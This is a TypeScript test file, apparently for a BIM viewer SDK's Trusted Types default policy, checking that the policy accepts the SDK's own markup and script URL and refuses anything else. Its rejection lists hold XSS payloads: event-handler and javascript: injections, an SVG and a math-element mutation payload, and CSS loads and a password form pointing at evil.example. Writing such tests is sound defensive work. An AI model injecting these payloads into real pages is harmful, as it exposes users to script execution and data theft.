import { expect } from '@open-wc/testing';
import {
  installBimuTrustedTypesPolicy,
  SDK_MATERIALIZE_URL,
  sdkMarkupProblem,
  sdkScriptUrlProblem,
} from '../../src/internal/sdk-default-policy.js';

/** Markup of the shapes the SDK writes (toolbar, dropdown, dialog skeleton, help table, tooltip text). */
const SDK_SHAPES = [
  '<div id="v-toolbar" style="position: absolute;padding-bottom: 10px;bottom: 0;text-align: center;width:inherit;"></div>',
  '<a id="v-zoom-to-fit-button" data-position="top" title="Zoom to Fit" data-tooltip="Zoom to Fit" data-target="" href="#" style="margin: 5px; background: undefined;" class=" btn-floating tooltipped"><i class="zmdi zmdi-aspect-ratio-alt"></i></a>',
  '<ul id="rotate-view-dropdown" class="dropdown-content"><li><a id="v-front" href="#">Front</a></li><li class="divider" tabindex="-1"></li></ul>',
  '<div id="bimU-modal" class="modal" style="position: absolute;"><div class="modal-content"><h4 id="modal-title"></h4><div id="modal-body"></div></div><div class="modal-footer"><a id="modal-ok-button" href="#" class="btn-flat"></a><a id="modal-close-button"href="#" class="modal-close btn-flat"></a></div></div>',
  '<table class="bimU-table striped"><tbody><tr class="property-group-header"><th colspan="2">Group</th></tr><tr><td><strong>Orbit</strong></td><td>Mouse Left Drag</td></tr></tbody></table>',
  'Zoom to Fit',
  'No element selected.',
];

/** Markup that runs script, navigates or loads something: none of it is the SDK's. */
const FOREIGN_MARKUP = [
  '<img src=x onerror=alert(1)>',
  '<div onclick="alert(1)">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example/">x</a>',
  '<script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<div style="background: url(https://evil.example/leak)">x</div>',
  '<body onload="alert(1)">',
  '<html onmouseover="alert(1)">',
  '<template><img src=x onerror=alert(1)></template>',
  '<form action="https://evil.example/"><input name="password"></form>',
];

describe('sdk-default-policy: what the SDK writes, and nothing else', () => {
  it('accepts the shapes of markup the SDK writes', () => {
    for (const html of SDK_SHAPES) expect(sdkMarkupProblem(html), html).to.equal(undefined);
  });

  it('refuses markup with event handlers, foreign elements, links or loads', () => {
    for (const html of FOREIGN_MARKUP) expect(sdkMarkupProblem(html), html).to.be.a('string');
  });

  it('accepts the SDK’s Materialize URL for a script and a blob: of this origin for its worker', () => {
    expect(sdkScriptUrlProblem(SDK_MATERIALIZE_URL, 'HTMLScriptElement src')).to.equal(undefined);
    const blobUrl = URL.createObjectURL(new Blob([''], { type: 'application/javascript' }));
    try {
      expect(sdkScriptUrlProblem(blobUrl, 'Worker constructor')).to.equal(undefined);
      // A blob: is the SDK's worker, never a page script.
      expect(sdkScriptUrlProblem(blobUrl, 'HTMLScriptElement src')).to.be.a('string');
    } finally {
      URL.revokeObjectURL(blobUrl);
    }
  });

  it('refuses foreign script URLs, javascript: and data: URLs, and blob: URLs of other origins', () => {
    for (const url of [
      'https://evil.example/x.js',
      'https://cdnjs.cloudflare.com/ajax/libs/materialize/1.0.0/js/materialize.min.js?x',
      'https://cdnjs.cloudflare.com/ajax/libs/jquery/3.7.1/jquery.min.js',
      'javascript:alert(1)',
      'data:text/javascript,alert(1)',
      'blob:https://evil.example/4f8b1c8e-4bd4-4a53-9d0c-0a1f0c6e1c2d',
    ]) {
      expect(sdkScriptUrlProblem(url, 'HTMLScriptElement src'), url).to.be.a('string');
      expect(sdkScriptUrlProblem(url, 'Worker constructor'), url).to.be.a('string');
    }
  });

  describe('installBimuTrustedTypesPolicy', () => {
    it('returns null where the browser has no Trusted Types, and otherwise one default policy that refuses', function () {
      if (!('trustedTypes' in window)) {
        expect(installBimuTrustedTypesPolicy()).to.equal(null);
        return;
      }
      const policy = installBimuTrustedTypesPolicy()!;
      expect(policy.name).to.equal('default');
      expect(installBimuTrustedTypesPolicy(), 'installed once').to.equal(policy);
      expect(String(policy.createHTML(SDK_SHAPES[1]!))).to.equal(SDK_SHAPES[1]);
      expect(() => policy.createHTML('<img src=x onerror=alert(1)>')).to.throw(TypeError, /Trusted Types/);
      expect(() => policy.createHTML('<a href="javascript:alert(1)">x</a>')).to.throw(
        TypeError,
        /Trusted Types/,
      );
      expect(String(policy.createScriptURL(SDK_MATERIALIZE_URL))).to.equal(SDK_MATERIALIZE_URL);
      expect(() => policy.createScriptURL('https://evil.example/x.js')).to.throw(TypeError, /Trusted Types/);
      expect(() => policy.createScriptURL('javascript:alert(1)')).to.throw(TypeError, /Trusted Types/);
      const script = (policy as unknown as { createScript(input: string): unknown }).createScript;
      expect(() => script.call(policy, 'alert(1)')).to.throw(TypeError, /Trusted Types/);
    });
  });
});
